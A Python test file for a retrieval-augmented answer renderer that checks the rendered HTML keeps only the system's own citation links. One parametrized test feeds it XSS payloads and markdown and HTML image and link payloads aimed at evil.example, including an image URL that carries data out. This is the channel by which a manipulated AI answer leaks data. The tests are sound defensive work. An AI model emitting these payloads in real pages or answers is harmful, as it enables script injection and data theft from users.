"""An answer becomes HTML in which nothing but our own citations leads anywhere, and nothing is fetched."""

import re

import pytest

from rag import prose

LINKS = {1: "/e/norte/biblioteca/x/leer?lugar=%7B%7D", 2: "/e/norte/biblioteca/y/leer"}


def _render(text: str, *, unsupported: frozenset[int] = frozenset()) -> str:
    return prose.render(
        text,
        links=LINKS,
        supported=lambda number: number not in unsupported,
        label="Fuente %d",
        unsupported="Ninguna fuente lo sostiene.",
    )


@pytest.mark.parametrize(
    "attack",
    [
        "<img src=https://evil.example/x>",
        "![secreto](https://evil.example/?q=datos)",
        "![secreto][1]\n\n[1]: https://evil.example",
        "[un enlace](https://evil.example)",
        "[un enlace][x]\n\n[x]: https://evil.example",
        "https://evil.example/pagina",
        "<https://evil.example>",
        "<script>alert(1)</script>",
        '"><svg onload=alert(1)>',
        "[1](javascript:alert(1))",
        "&lt;img src=x onerror=alert(1)&gt;",
        "`<b>` y ```<i>```",
    ],
)
def test_no_markup_image_or_link_of_the_answer_lives(attack: str) -> None:
    html = _render(f"Según el acta {attack} [1].")
    tags = set(re.findall(r"<\s*([a-z0-9]+)", html))
    assert tags <= {
        "p",
        "a",
        "br",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
        "em",
        "strong",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
    addresses = re.findall(r'(?:href|src)="([^"]*)"', html)
    assert set(addresses) <= set(LINKS.values())
    assert not re.search(r"<[^>]*\son[a-z]+=", html)


def test_marks_become_links_to_their_sources_and_unknown_numbers_stay_text() -> None:
    html = _render("Son veinticinco [1][2], y no otra cosa [1, 2]. Quizá [7].")
    assert html.count('class="cite"') == 4
    assert 'data-n="2" aria-label="Fuente 2">2</a>' in html
    assert "[7]" in html


def test_a_sentence_without_support_is_marked_and_the_others_are_not() -> None:
    html = _render(
        "Esto está en el acta [1]. Esto no está en ninguna parte. Esto sí [2].", unsupported=frozenset({1})
    )
    assert html.count('class="unsupported"') == 1
    assert html.index("ninguna parte") < html.index('class="unsupported"') < html.index("Esto sí")


def test_lists_emphasis_and_tables_are_shown() -> None:
    html = _render("**Importa**:\n\n- uno\n- dos\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>Importa</strong>" in html
    assert html.count("<li>") == 2
    assert "<td>2</td>" in html


def test_the_same_text_taken_apart_has_its_looks_its_lists_and_its_marks() -> None:
    text = (
        "Hola **fuerte** y _suave_ [1, 2].\n\n- uno [3]\n  - hondo\n\n2. dos\n3. tres\n\n"
        "| a | b |\n|---|---|\n| c | d |"
    )
    blocks = prose.parse(text, supported=lambda number: number != 0)
    assert [(each.depth, each.number) for each in blocks] == [
        (0, None),
        (1, None),
        (2, None),
        (1, 2),
        (1, 3),
        (0, None),
        (0, None),
    ]
    first = blocks[0].spans
    assert [span.text for span in first if span.is_strong] == ["fuerte"]
    assert [span.text for span in first if span.is_emphasis] == ["suave"]
    assert [span.note for span in first if span.note] == [1, 2] and any(span.is_doubt for span in first)
    assert ["".join(span.text for span in each.spans) for each in blocks[-2:]] == ["a | b", "c | d"]
